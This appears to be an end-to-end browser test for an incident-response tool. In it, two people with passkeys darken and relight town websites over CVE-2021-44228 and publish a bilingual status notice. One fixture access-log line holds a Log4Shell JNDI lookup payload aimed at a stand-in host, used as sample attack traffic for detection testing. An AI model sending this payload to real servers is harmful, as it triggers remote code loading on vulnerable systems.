// A night by two people, each with a virtual authenticator, on a town behind a real built-in edge:
// opened, proposed by one, approved by the other, dark, relit and told to the public, by keyboard
// alone, at a desk, at twice the size, and on a telephone in forced colours
// without motion. Pictures are taken when SHOTS names a folder.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { after, before, describe, test } from 'node:test';
import {
  DESK, TWICE, look, lookHere, openLink, person, quit, tabTo, violations, withBrowser,
} from './browser.mjs';
import { FIRST_LINK } from './serve.mjs';

const { RELIGHT } = process.env;

const SLUGS = ['care', 'beds', 'taxes'];

const ROWS = ['slug,name_fr,name_en,origin,organisation,sector,criticality,edge,public',
  ...SLUGS.map((slug) =>
    `${slug},Nom ${slug},Name ${slug},http://${slug}.example,Town,municipal,3,hall,yes`),
].join('\n');

const FREE = '127.0.0.1:0';

let folder;
let origin;
let link;
let edge;
let visitors;
/** Hosts whose site is broken behind its edge. */
const broken = new Set();
const running = [];

/** Runs a command on the register of the town. */
function relight(...words) {
  const done = spawnSync(RELIGHT, ['--data', join(folder, 'data'), '--lang', 'en', ...words],
    { cwd: folder, encoding: 'utf8' });
  assert.equal(done.status, 0, `${words.join(' ')}: ${done.stderr}`);
  return done.stdout;
}

/** Starts a command that goes on, and waits for a line of it. */
async function start(words, stream, wanted) {
  const child = spawn(RELIGHT, ['--data', join(folder, 'data'), '--lang', 'en', ...words],
    { cwd: folder });
  running.push(child);
  child[stream === 'stderr' ? 'stdout' : 'stderr'].resume();
  for await (const line of createInterface({ input: child[stream] })) {
    const found = wanted.exec(line);
    if (found) {
      child[stream].resume();
      return found[1];
    }
  }
  return assert.fail(`${words.join(' ')} never said ${wanted}`);
}

/** What other processes do is waited for this long. */
const PATIENT_MS = 60_000;

/** A port that nobody uses now, below those that a system gives away by itself. */
async function freePort() {
  for (;;) {
    const port = 10_000 + Math.floor(Math.random() * 20_000);
    const server = createServer();
    const isFree = await new Promise((resolve) => {
      server.once('error', () => resolve(false)).listen(port, '127.0.0.1', () => resolve(true));
    });
    if (!isFree) continue;
    await new Promise((resolve) => { server.close(resolve); });
    return port;
  }
}

/** What a visitor of a site gets from the edge: the status, and what there is to read. */
function answerOf(slug) {
  return new Promise((resolve, reject) => {
    const headers = { host: `${slug}.example`, accept: 'text/html' };
    const [host, port] = edge.split(':');
    const asked = request({ host, port, path: '/', headers }, async (answer) => {
      let body = '';
      for await (const part of answer.setEncoding('utf8')) body += part;
      resolve([answer.statusCode, body]);
    });
    asked.on('error', reject);
    asked.end();
  });
}

const visit = async (slug) => (await answerOf(slug))[0];

/** One who tries the payload of a lookup, so that the watch has a campaign to take along. */
const ATTEMPT = '203.0.113.7 - - [10/Dec/2021:12:00:00 +0000] '
  + '"GET /?q=${jndi:ldap://x.test/a} HTTP/1.1" 200 12 "-" "-"\n';

async function begin() {
  folder = mkdtempSync(join(tmpdir(), 'relight-acts-'));
  writeFileSync(join(folder, 'sites.csv'), ROWS);
  visitors = createServer((request, answer) => {
    answer.statusCode = broken.has(request.headers.host) ? 502 : 200;
    answer.end('open');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => { visitors.once('listening', resolve); });
  const place = `127.0.0.1:${visitors.address().port}`;
  writeFileSync(join(folder, 'routes'), SLUGS.map((slug) => `${slug} ${place}\n`).join(''));
  relight('sites', 'import', 'sites.csv');
  writeFileSync(join(folder, 'access.log'), ATTEMPT);
  relight('watch', 'ingest', 'access.log', '--org', 'Town', '--site', 'care');
  edge = `127.0.0.1:${await freePort()}`;
  relight('edge', 'add', 'builtin', '--name', 'hall', '--gate', 'gate', '--verify', 'verify.sock',
    '--listen', edge);
  await start(['edge', 'run', '--routes', 'routes'], 'stdout', /(answers on)/);
  const words = ['serve', '--listen', FREE, '--public-listen', FREE, '--languages', 'fr,en'];
  link = await start(words, 'stderr', FIRST_LINK);
  origin = new URL(link).origin;
}

function end() {
  for (const child of running.splice(0)) child.kill();
  visitors?.close();
  broken.clear();
  rmSync(folder, { recursive: true, force: true });
}

after(quit);

/** Presses Enter where a page leads on, and waits for the next one. */
async function enter(page, address) {
  await Promise.all([page.waitForURL(address), page.keyboard.press('Enter')]);
}

/** An incident from its opening to the light; `glance` looks at a page on the way. */
async function night(options, glance) {
  // In forced colours a page has none of its own that could be measured.
  const peek = options.forcedColors ? async () => {} : lookHere;
  await withBrowser(async (first) => withBrowser(async (second) => withBrowser(async (third) => {
    const [admin, chief, approver] = [await person(first), await person(second), await person(third)];
    await openLink(admin.page, link, 'en');
    await admin.page.fill('[name=name]', 'anna');
    await admin.page.click('button.main');
    await admin.page.waitForURL('**/accounts?*');
    for (const [who, name, role] of [[chief, 'chief', 'commander'], [approver, 'zoe', 'approver']]) {
      await admin.page.goto(`${origin}/accounts?lang=en`);
      await admin.page.fill('form[action^="/accounts/add"] [name=name]', name);
      await admin.page.click('form[action^="/accounts/add"] button');
      const invitation = await admin.page.textContent('.secret code');
      await openLink(who.page, invitation, 'en');
      await who.page.click('button.main');
      await who.page.waitForURL('**/me?*');
      await admin.page.goto(`${origin}/accounts?lang=en`);
      await admin.page.selectOption('[name=name]', name);
      await admin.page.selectOption('[name=role]', role);
      await admin.page.click('form[action^="/accounts/grant"] button');
      await admin.page.waitForSelector('.done');
    }

    // The second one reads for the town as well: whoever is told of what happened there.
    for (const [name, role, scope] of [['chief', 'publisher', '/'], ['zoe', 'viewer', 'municipal/Town']]) {
      await admin.page.goto(`${origin}/accounts?lang=en`);
      await admin.page.selectOption('[name=name]', name);
      await admin.page.selectOption('[name=role]', role);
      await admin.page.fill('[name=scope]', scope);
      await admin.page.click('form[action^="/accounts/grant"] button');
      await admin.page.waitForSelector('.done');
    }

    // The second of them is granted by two people: an administrator cannot invent one.
    await glance(chief.page, `${origin}/accounts`, 'acts-accounts');
    await chief.page.goto(`${origin}/accounts?lang=en`);
    await chief.page.click('[name=answer][value=confirm]');
    await chief.page.waitForSelector('.done');

    // Open an incident: by keyboard alone, as everything from here on.
    const { page } = chief;
    await page.goto(`${origin}/?lang=en`);
    await tabTo(page, '.drop summary');
    await page.keyboard.press('Enter');
    await tabTo(page, '.drop [name=incident]');
    await page.keyboard.type('CVE-2021-44228');
    await page.keyboard.press('Enter');
    // The address stays the same: the page is what is waited for.
    await page.locator('h1', { hasText: 'CVE-2021-44228' }).waitFor();

    // Propose dark.
    await tabTo(page, '.acts a[href*="action=dark"]');
    await enter(page, '**/plan?*');
    await tabTo(page, '[name=reason]');
    await page.keyboard.type('Log4Shell');
    await enter(page, '**/plan?*reason=Log4Shell*');
    assert.equal(await page.textContent('.large b'), '3');
    await glance(page, `${origin}/plan?action=dark&which=todo&reason=Log4Shell`, 'acts-plan');
    await page.goto(`${origin}/plan?lang=en&action=dark&which=todo&reason=Log4Shell`);
    await tabTo(page, 'button.strong');
    await enter(page, '**/approve/A-0001?*');
    assert.equal(await page.locator('[value=approve]').count(), 0, 'who asks does not agree');
    assert.deepEqual(await Promise.all(SLUGS.map(visit)), [200, 200, 200]);

    await glance(page, `${origin}/approve/A-0001`, 'acts-approve-glass');
    assert.equal(await page.locator('details.glass').count(), 1, 'the command may break the glass');

    // An administrator sees no button, and a stranger nothing.
    await admin.page.goto(`${origin}/approve/A-0001?lang=en`);
    assert.equal(await admin.page.locator('[value=approve]').count(), 0);
    assert.equal((await fetch(`${origin}/api/v1/plans`)).status, 401);

    // Approve.
    await glance(approver.page, `${origin}/approve/A-0001`, 'acts-approve');
    await approver.page.goto(`${origin}/approve/A-0001?lang=en`);
    await tabTo(approver.page, 'button.strong');
    // The passkey signs the plan before the form goes.
    await approver.page.keyboard.press('Enter');
    await approver.page.waitForSelector('.standing.started');
    assert.match(await approver.page.textContent('.standing'), /carried out/);
    assert.match(relight('audit', 'verify'), /2 signed by passkeys, each over what it is about; 0 without/);
    const until = Date.now() + PATIENT_MS;
    for (;;) {
      const seen = await Promise.all(SLUGS.map(visit));
      if (seen.every((status) => status === 503)) break;
      assert.ok(Date.now() < until, `not dark: ${seen}`);
      await page.waitForTimeout(100);
    }

    await holdingPage(first, glance);
    await glance(page, `${origin}/`, 'acts-incident');
    await glance(page, `${origin}/site/care`, 'acts-site');
    // Who answers for a site sees what is signed before the key is asked for.
    await page.goto(`${origin}/site/care?lang=fr`);
    await page.fill('form:has(button[value="accept"]) input[name="note"]', 'Nuit des élections');
    await page.click('button[value="accept"]');
    await page.waitForSelector('form[data-key="get"]');
    if (glance === look) await lookHere(page, 'acts-accept-fr');
    await glance(page, `${origin}/posture?org=Town`, 'acts-posture');
    await glance(page, `${origin}/watch`, 'acts-watch');
    await tell(chief, approver, glance);
    await inOrder(page);
    await checked(page, glance);

    // The lists follow by themselves, and whoever stands on a row stays on it. What is proven clear
    // comes back by itself, but not a site that fails: that is for a person.
    await page.goto(`${origin}/?lang=en`);
    await page.check('.todo [name="pick.beds"]');
    await tabTo(page, '.todo a[href^="/site/taxes"]');
    broken.add('care.example');
    mkdirSync(join(folder, 'nothing'));
    relight('scan', 'nothing', '--site', 'care');
    await page.waitForFunction(
      () => /recovery probe fails/.test(document.querySelector('.queue')?.textContent ?? ''),
      undefined, { timeout: 90_000 });
    assert.equal(await page.evaluate(() => document.activeElement.textContent), 'taxes');
    assert.ok(await page.isChecked('.todo [name="pick.beds"]'), 'what was checked stays so');
    broken.clear();

    // Relight.
    await tabTo(page, '.acts a[href*="action=relight"]');
    await enter(page, '**/plan?*');
    await tabTo(page, '[name=reason]');
    await page.keyboard.type('Mended');
    await enter(page, '**/plan?*reason=Mended*');
    assert.equal(await page.textContent('.large b'), '1');
    await tabTo(page, 'button.strong');
    await enter(page, '**/approve/A-0002?*');
    await approver.page.goto(`${origin}/approve/A-0002?lang=en`);
    await tabTo(approver.page, 'button.strong');
    await approver.page.keyboard.press('Enter');
    await approver.page.waitForSelector('.standing.started');
    const lit = Date.now() + PATIENT_MS;
    while (await visit('care') !== 200) {
      assert.ok(Date.now() < lit, 'care is not lit');
      await page.waitForTimeout(100);
    }
    assert.deepEqual(await Promise.all(['beds', 'taxes'].map(visit)), [503, 503]);

    // Publish.
    await page.goto(`${origin}/?lang=en`);
    await tabTo(page, '.drop summary');
    await page.keyboard.press('Enter');
    await tabTo(page, '.drop [name=fr]');
    await page.keyboard.type('Le service de santé est revenu.');
    await tabTo(page, '.drop [name=en]');
    await page.keyboard.type('The health service is back.');
    await tabTo(page, '.drop button');
    await enter(page, '**/incident/preview?lang=en');
    await peek(page, 'acts-preview-en');
    for (const lang of ['fr', 'en']) {
      assert.equal(await page.locator(`.preview [lang=${lang}]`).count(), 1, lang);
    }
    await tabTo(page, 'button.strong');
    await enter(page, '**/?lang=en');
    const status = await page.getAttribute('nav a[href$="/en/"]', 'href');
    const told = Date.now() + PATIENT_MS;
    while (!(await (await fetch(status)).text()).includes('The health service is back.')) {
      assert.ok(Date.now() < told, 'the words are not published');
      await page.waitForTimeout(100);
    }
    const { items } = await (await fetch(new URL('/fr/feed.json', status))).json();
    assert.equal(items[0].content_text, 'Le service de santé est revenu.');
    await glance(page, `${origin}/plans`, 'acts-plans');
    await previewInFrench(page, peek);
    assert.deepEqual([...chief.faults, ...approver.faults, ...admin.faults], []);
    // From here on the browser notes what is refused.
    await twoIncidents(page, glance);
    await refused(page, peek);
  }, options), options), options);
}

/** Who has a role for the town is told of the campaign that touched it, by keyboard alone. */
async function tell(chief, approver, glance) {
  const { page } = chief;
  await page.goto(`${origin}/watch?lang=en`);
  const form = 'form[action="/watch/tell"]';
  const id = await page.getAttribute(`${form} [name=q]`, 'value');
  await glance(page, `${origin}/watch/tell?q=${id}`, 'acts-tell');
  await page.goto(`${origin}/watch?lang=en`);
  await tabTo(page, `${form} button`);
  await enter(page, '**/watch/tell?*');
  assert.match(await page.textContent('main'), /1 person of 1 organisation will be told/);
  // A night takes longer than a passkey counts.
  const first = page.locator('main a[href^="/confirm"]');
  if (await first.count() > 0) {
    await tabTo(page, 'main a[href^="/confirm"]');
    await enter(page, '**/confirm?*');
    await tabTo(page, 'main button');
    await enter(page, '**/watch/tell?*');
  }
  await tabTo(page, 'main form button');
  await page.keyboard.press('Enter');
  await page.waitForSelector('main [role="status"]');
  assert.match(await page.textContent('main [role="status"]'), /1 person of 1 organisation was told/);
  if (glance === look) await lookHere(page, 'acts-told-campaign');
  await approver.page.goto(`${origin}/me?lang=en`);
  assert.match(await approver.page.textContent('main'), new RegExp(id));
}

/** What is to be done first moves under no hand and no cursor, and then stands in its order. */
async function inOrder(page) {
  await page.goto(`${origin}/?lang=en`);
  await page.waitForSelector('rl-live[data-mode="on"]');
  const rows = () => page.locator('.todo tbody').evaluate((body) => [...body.rows].map((row) => [
    row.className, ...[...row.cells].map((cell) => `${cell.title}|${cell.textContent.trim()}`)]));
  // Nothing else is heard from here on.
  await page.evaluate(() => {
    const live = document.querySelector('rl-live');
    live.follow = () => {};
    live.stream.close();
  });
  // The worst site becomes the last one.
  const turn = () => page.evaluate(() => {
    const live = document.querySelector('rl-live');
    const todo = [...document.querySelector('.todo tbody').rows].map((row) => ({
      slug: row.dataset.key,
      href: row.querySelector('a').getAttribute('href'),
      letter: row.querySelector('use').getAttribute('href').slice(-1),
      vital: row.classList.contains('vital'),
      cells: [...row.querySelectorAll('th ~ td')].map((cell) => cell.textContent.trim()),
    }));
    live.next = { queue: [], todo: (live.next?.todo ?? todo).toReversed() };
    live.queue(live.next);
  });
  const first = (slug) => page.waitForSelector(`.todo tbody tr:first-child[data-key="${slug}"]`);
  const keys = await page.locator('.todo tbody tr').evaluateAll(
    (all) => all.map((row) => row.dataset.key));
  const before = await rows();
  assert.equal(before.length, SLUGS.length);
  await page.hover('.todo tbody tr:first-child td.state');
  await turn();
  assert.deepEqual(await rows(), before, 'under a hand');
  await page.mouse.move(0, 0);
  await first(keys.at(-1));
  assert.deepEqual(await rows(), before.toReversed());
  await tabTo(page, '.todo tbody a');
  await turn();
  await page.keyboard.press('Shift+Tab');
  assert.deepEqual(await rows(), before.toReversed(), 'under a cursor');
  await tabTo(page, '#picks button');
  await first(keys[0]);
  // A box that a hand has clicked holds nothing up once the hand is away.
  await page.click('.todo tbody input');
  await page.mouse.move(0, 0);
  await turn();
  await first(keys.at(-1));
  // A row that is made anew is as the server writes it.
  await page.evaluate(() => document.querySelector('.todo tbody').replaceChildren());
  await turn();
  assert.deepEqual(await rows(), before);
}

/** Several sites are checked, and the plan is for these: by keyboard, and without scripts. */
async function checked(page, glance) {
  const boxes = ['beds', 'taxes'].map((slug) => `[name="pick.${slug}"]`);
  await page.goto(`${origin}/?lang=en`);
  for (const box of boxes) {
    await tabTo(page, `.todo ${box}`);
    await page.keyboard.press('Space');
  }
  assert.equal(await page.textContent('#picks output'), '2 sites checked');
  // What leaves the list stays checked, and is counted.
  await page.evaluate(() => document.querySelector('.todo tr:has([name="pick.beds"])').remove());
  assert.equal(await page.locator('.todo tbody input:checked').count(), 1);
  assert.equal(await page.textContent('#picks output'), '2 sites checked');
  await tabTo(page, '#picks [value="dark"]');
  await enter(page, '**/plan?*which=named*');
  assert.equal(await page.inputValue('[name=sites]'), 'beds taxes');
  await glance(page, `${origin}/sites`, 'acts-sites');
  // A look at what is new keeps what was checked after the page had become old.
  await page.goto(`${origin}/sites?lang=fr`);
  await page.evaluate(() => { document.querySelector('rl-live').dataset.shown = 'before'; });
  await page.waitForSelector('rl-live[data-mode="old"] a');
  for (const box of boxes) await page.check(`.sites ${box}`);
  await Promise.all([page.waitForEvent('load'), page.click('rl-live[data-mode="old"] a')]);
  assert.equal(await page.textContent('#picks output'), '2 sites cochés');
  // What is filtered away stays checked, and no other site is because its row is the same one.
  await page.goto(`${origin}/sites?lang=fr`);
  await page.check(`.sites ${boxes[0]}`);
  assert.equal(await page.textContent('#picks output'), '1 site coché');
  await page.fill('[name=q]', 'taxes');
  await page.locator(`.sites tbody tr:first-child ${boxes[1]}`).waitFor();
  assert.equal(await page.locator('.sites tbody input:checked').count(), 0);
  await page.check(`.sites ${boxes[1]}`);
  await page.fill('[name=q]', 'beds');
  await page.locator(`.sites tbody tr:first-child ${boxes[0]}`).waitFor();
  assert.ok(await page.isChecked(`.sites ${boxes[0]}`), 'its row is back');
  assert.equal(await page.textContent('#picks output'), '2 sites cochés');
  // Nor is it lost when the page is loaded again: to see what is new, by a reset, in English.
  await page.waitForFunction(() => location.search.includes('beds'));
  await page.evaluate(() => { document.querySelector('rl-live').dataset.shown = 'before'; });
  await Promise.all([page.waitForEvent('load'), page.click('rl-live[data-mode="old"] a')]);
  assert.equal(await page.textContent('#picks output'), '2 sites cochés');
  assert.ok(await page.isChecked(`.sites ${boxes[0]}`));
  await page.reload();
  assert.equal(await page.textContent('#picks output'), '2 sites cochés');
  await Promise.all([page.waitForURL('**lang=en**'), page.click('.top [hreflang]')]);
  assert.equal(await page.textContent('#picks output'), '2 sites checked');
  assert.ok(await page.isChecked(`.sites ${boxes[0]}`));
  // Another list begins with nothing checked, and what no address can hold is told.
  if (await page.isVisible('.menu')) await page.click('.menu');
  await page.click('nav a[href^="/sites"]');
  await page.waitForURL((url) => url.hash === '');
  assert.equal(await page.textContent('#picks output'), '');
  const many = Array.from({ length: 700 }, (_, at) => `site-${at}.example`).join('+');
  await page.goto('about:blank');
  await page.goto(`${origin}/sites?lang=en#pick.${many}`);
  assert.match(await page.textContent('#picks output'), /^700 sites checked: one plan does not take/);
  assert.ok(await page.isDisabled('#picks [value="dark"]'));
  // "To do first" leads to all that it is about, and takes a query.
  await page.goto(`${origin}/?lang=en`);
  await page.fill('.todo [name="q"]', 'beds');
  await page.press('.todo [name="q"]', 'Enter');
  await page.waitForURL('**/sites?*queue=todo*');
  assert.match(await page.textContent('rl-table'), /To do first/);
  assert.deepEqual(await page.locator('.sites tbody th').allTextContents(), ['beds']);
  await page.goto(`${origin}/sites?lang=fr&q=beds#pick.beds+taxes`);
  // Printed, there is nothing to be checked or pressed.
  await page.emulateMedia({ media: 'print' });
  assert.equal(await page.locator('main button, main input').filter({ visible: true }).count(), 0);
  await page.emulateMedia({ media: null });
  await page.click('#picks [value="dark"]');
  await page.waitForURL('**/plan?*which=named*');
  assert.equal(await page.inputValue('[name=sites]'), 'beds taxes');
  const storageState = await page.context().storageState();
  await withBrowser(async (bare) => {
    const plain = await bare.newPage();
    await plain.goto(`${origin}/sites?lang=en`);
    for (const box of boxes) await plain.check(`.sites ${box}`);
    await plain.click('#picks [value="relight"]');
    await plain.waitForURL('**/plan?*which=named*');
    assert.equal(await plain.inputValue('[name=sites]'), 'beds taxes');
  }, { javaScriptEnabled: false, storageState });
}

/** What stands in the place of a dark site, which the edge answers by itself. */
async function holdingPage(context, glance) {
  const [status, body] = await answerOf('beds');
  assert.equal(status, 503);
  const page = await context.newPage();
  await page.setContent(body);
  for (const lang of ['fr', 'en']) assert.ok(await page.locator(`[lang=${lang}]`).count() > 0, lang);
  if (glance === look) await lookHere(page, 'acts-holding');
  await page.close();
}

/** The one of the forms behind a button that leads to an address, opened. */
async function drop(page, action) {
  const found = page.locator('details.drop', { has: page.locator(`form[action^="${action}"]`) });
  await found.locator('summary').click();
  return found;
}

/** What is about to be published is looked at in the other language as well. */
async function previewInFrench(page, peek) {
  await page.goto(`${origin}/?lang=fr`);
  const publish = await drop(page, '/incident/preview');
  await publish.locator('[name=fr]').fill('Le service est revenu.');
  await publish.locator('[name=en]').fill('The service is back.');
  await publish.locator('button').click();
  await page.waitForURL('**/incident/preview?lang=fr');
  await peek(page, 'acts-preview-fr');
}

/** While two incidents are open each is named, and closing is about the one that is chosen. */
async function twoIncidents(page, glance) {
  const [old, young] = ['CVE-2021-44228', 'CVE-2021-45046'];
  await page.goto(`${origin}/?lang=en`);
  const open = await drop(page, '/incident/open');
  await open.locator('[name=incident]').fill(young);
  await open.locator('button').click();
  await page.waitForFunction((id) => document.querySelector('h1')?.textContent.includes(id), young);
  assert.match(await page.textContent('.others'), new RegExp(`${old}.*2 dark`));
  await glance(page, `${origin}/`, 'acts-two');
  const close = async (id) => {
    await page.goto(`${origin}/?lang=en`);
    const form = await drop(page, '/incident/close');
    const all = await form.locator('option').evaluateAll((options) => options.map((it) => it.value));
    assert.deepEqual(all.sort(), [old, young]);
    await form.locator('select').selectOption(id);
    await form.locator('button').click();
  };
  // Two of its sites are dark still, whichever incident the screen is about.
  await close(old);
  await page.waitForSelector('main.act a.button');
  await close(young);
  await page.waitForFunction((id) => document.querySelector('h1')?.textContent.includes(id), old);
  assert.equal(await page.locator('.others').count(), 0);
}

/** What is refused says why, in both languages: an incident that is not there is not closed. */
async function refused(page, peek) {
  for (const lang of ['fr', 'en']) {
    await page.goto(`${origin}/?lang=${lang}`);
    await page.locator('form[action^="/incident/close"]').evaluate((form) => {
      form.querySelector('[name=incident]').value = 'CVE-1900-1';
      form.requestSubmit();
    });
    await page.waitForSelector('main.act a.button');
    await peek(page, `acts-told-${lang}`);
  }
}

/** One who reads on a telephone, in colours of his own, and wants nothing to move. */
const CALM = {
  viewport: { width: 400, height: 800 }, forcedColors: 'active', reducedMotion: 'reduce',
};

const WAYS = [['at a desk', DESK], ['at twice the size', TWICE], ['on a telephone, calm', CALM]];

for (const [name, options] of WAYS) {
  describe(name, () => {
    before(begin);
    after(end);
    const glance = options === DESK ? look : async () => {};
    test('an incident from its opening to the light, by two people and by keyboard alone',
      () => night(options, glance));
  });
}
